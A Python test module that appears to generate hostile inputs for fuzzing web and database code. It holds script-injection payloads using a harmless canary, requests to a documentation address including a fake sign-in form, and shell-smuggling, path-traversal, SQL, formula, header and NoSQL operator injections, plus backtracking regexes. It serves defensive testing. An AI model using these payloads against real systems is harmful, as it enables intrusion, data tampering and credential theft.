"""Texts that do harm where they are taken for more than text."""

from collections.abc import Callable
from random import Random
from typing import Any, Final

ELSEWHERE: Final = "203.0.113.7"
"""An address for documentation (RFC 5737): nobody is there, and no page of ours has a reason to call it."""

_RUN: Final = "window.canaried=1"
SCRIPTS: Final = (
    f"<script>{_RUN}</script>",
    f"<img src=x onerror={_RUN}>",
    f"<svg onload={_RUN}>",
    f"\"><svg/onload='{_RUN}'>",
    f"' autofocus onfocus='{_RUN}' x='",
    f'" onmouseover="{_RUN}" style="position:fixed;inset:0',
    f"javascript:{_RUN}",
    f"<a href='javascript:{_RUN}'>offer</a>",
    f"<iframe srcdoc='<script>parent.{_RUN}</script>'></iframe>",
    f"</script><script>{_RUN}</script>",
    f"</textarea></title></template><script>{_RUN}</script>",
    f"]]><script>{_RUN}</script><!--",
    f"<svg><animate onbegin={_RUN} attributeName=x></svg>",
    f"<details open ontoggle={_RUN}>",
    f"<math><mtext></p><style><img title='</style><img src onerror={_RUN}>'>",
    f"data:text/html,<script>{_RUN}</script>",
    f"<img src=http://{ELSEWHERE}/beacon>",
    f"<style>@import 'http://{ELSEWHERE}/s';*{{background:url(http://{ELSEWHERE}/b)}}</style>",
    f"<link rel=stylesheet href=//{ELSEWHERE}/s><base href=//{ELSEWHERE}/>",
    f"<meta http-equiv=refresh content='0;url=http://{ELSEWHERE}/'>",
    f"<form action=http://{ELSEWHERE}/><button>Sign in again</button></form>",
    "{{constructor.constructor('window.canaried=1')()}}",
    "{{ self.__init__.__globals__ }}{% raise %}<%= 7*7 %>#{7*7}",
    "${window.canaried=1}`${window.canaried=1}`",
)
"""Each sets ``window.canaried``, or calls elsewhere, where it is taken for markup or code."""

ODD: Final = (
    "\u202egpj.exe\u2066\u2069 \u061c\u200f",
    "\u200b\u200c\u200d\ufeff\u2060",
    "Z" + "\u0336\u0489\u035b" * 60,
    "__proto__",
    "constructor",
    "toString",
    "../../../etc/passwd",
    "=cmd|' /C calc'!A0",
    "%s%s%n%p{0.__class__}",
    "'; DROP TABLE items; --",
    "$(touch /tmp/owned)`id`",
    "a\x00b",
    "a\r\nX-Injected: yes\r\n\r\n<script>",
    "\x1b]0;owned\x07\x1b[2J",
    "\ud83d",
    "\U0010ffff\ufffe",
    "漢" * 1_000,
    "A" * 1_000,
    "",
    " \t\n",
)

OPERATORS: Final[tuple[Any, ...]] = (
    {"$gt": ""},
    {"$ne": None},
    {"$where": "sleep(10000)||true"},
    {"$regex": "^(a+)+$"},
    {"$in": ["admin"]},
    {"$expr": {"$function": {"body": "return 1", "args": [], "lang": "js"}}},
    {"$set": {"role": "admin"}},
    {"$unset": {"password": 1}},
    {"$or": [{}, {"a": 1}]},
    {"__proto__": {"role": "admin"}},
    {"$ref": "users", "$id": "admin"},
    {"$oid": "507f1f77bcf86cd799439011"},
    {"$date": "2020-01-01T00:00:00Z"},
    [{"$gt": ""}],
    ["$ne", None],
)
"""What a document store would take for a query, an update or another type, were it given one."""

REGEXES: Final = ("(a+)+$", "^(([a-z])+.)+[A-Z]([a-z])+$", "(.*)*" * 20, "[" * 100, "(?<!a{1,9999})b", "\\", "a{99999}")


def text(dice: Random) -> str:
    """One of all these."""
    return dice.choice(dice.choice((SCRIPTS, ODD, REGEXES)))


def value(dice: Random) -> Any:
    """What is not what a field expects, whatever that is."""
    makers: tuple[Callable[[], Any], ...] = (
        lambda: dice.choice(OPERATORS),
        lambda: text(dice),
        lambda: dice.choice((None, True, 0, -1, 2**63, -(2**64), 10**400, 1e308, 0.1, [], {}, [[]], [None] * 1_000)),
    )
    return dice.choice(makers)()
